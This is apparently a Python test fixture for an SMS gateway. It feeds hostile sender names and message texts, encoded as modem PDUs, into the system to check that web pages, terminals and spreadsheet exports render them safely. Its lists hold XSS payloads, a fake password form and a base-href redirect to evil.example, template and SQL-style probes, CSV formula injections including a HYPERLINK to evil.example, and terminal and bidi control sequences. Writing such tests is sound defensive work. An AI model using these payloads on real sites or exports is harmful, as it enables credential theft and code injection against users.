"""What strangers may write, as data: for pages, terminals, spreadsheets and the live stream."""

from datetime import timedelta

from gateway import arrivals, store
from hardware.pdu import Address, encode_deliver, segment
from tests.web.world import ICCIDS, World

MARKER = "owned"  # what a script of theirs would set
HOSTILE = [
    f"<script>window.{MARKER}=1</script>",
    f"<img src=x onerror=window.{MARKER}=1><svg/onload=window.{MARKER}=1>",
    f'"><iframe srcdoc="<script>parent.{MARKER}=1</script>"></iframe><base href=//evil.example>',
    f"{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} ' onmouseover='window.{MARKER}=1",
    "</textarea></p></main><h1>Signed out</h1><form action=//evil.example><input name=password>",
    f"javascript:window.{MARKER}=1 data:text/html,<script>1</script>",
    "bell\x07 nul\x00 sub\x1a esc\x1b[2J\x1b]0;title\x07\x9b31m del\x7f back\x08\x08",
    "pay \u202e0001\u202c euros \u202doverride\u202c",
    "\u2067unclosed isolate \u2066\u2068 and \u202bembedding",
    "zero\u200bwidth\u2060 join\ufeffed \u00ad soft",
    "\ud83d lone \udc00 surrogates",
    "Z̷̢̧̛͖̠̦̟̞͂͐͌̽̏̕͜͝a̶͇̍l̴" + "\u0301" * 60 + "go",
    "👩‍👩‍👧‍👦🏳️‍🌈👩🏽‍🚀🇩🇪1️⃣",
    "W" * 900,
    "line\r\nfeed\rreturn\u2028separator\x0bvertical\x0cform",
]
CELLS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "'=1+1",
    "''+x",
    "'t Hooft",
    '=HYPERLINK("http://evil.example","x")',
    'a,b\n"c"',
]
SENDERS = ["<b>Bank</b>", "=1+1", "@SUM(A1)", "-2+3", "a\rb\nc\fd", "&lt;i&gt;", "{{7*7}}", "'x' OR 1=1"]


HALVES = (
    ("\ud83d", "\ue000"),
    ("\udc00", "\ue001"),
)  # our encoder refuses half a surrogate pair: it is put in afterwards


def octets_of(sender: str | Address, text: str, number: int) -> list[bytes]:
    """The segments of one text as TPDUs."""
    for half, stand_in in HALVES:
        text = text.replace(half, stand_in)
    plan = segment(text)
    stamp = store.moment(store.wall_ms()).replace(microsecond=0) + timedelta(seconds=number)
    found = [
        encode_deliver(sender, plan, timestamp=stamp, seq=seq, ref=number % 256)
        for seq in range(1, plan.count + 1)
    ]
    for half, stand_in in HALVES:
        found = [one.replace(stand_in.encode("utf-16-be"), ord(half).to_bytes(2, "big")) for one in found]
    return found


def receive_all(world: World, texts: list[tuple[str | Address, str]], station: str = "north") -> None:
    """Each (sender, text) comes in as the PDUs that a modem would give."""
    for number, (sender, text) in enumerate(texts, 1):
        found = [
            arrivals.Received("00" + octets.hex(), "SM", number * 20 + seq)
            for seq, octets in enumerate(octets_of(sender, text, number))
        ]
        arrivals.keep(
            world.db,
            found,
            arrivals.Seen(station, ICCIDS[station]),
            world.rules,
            now=store.wall_ms() + number,
        )
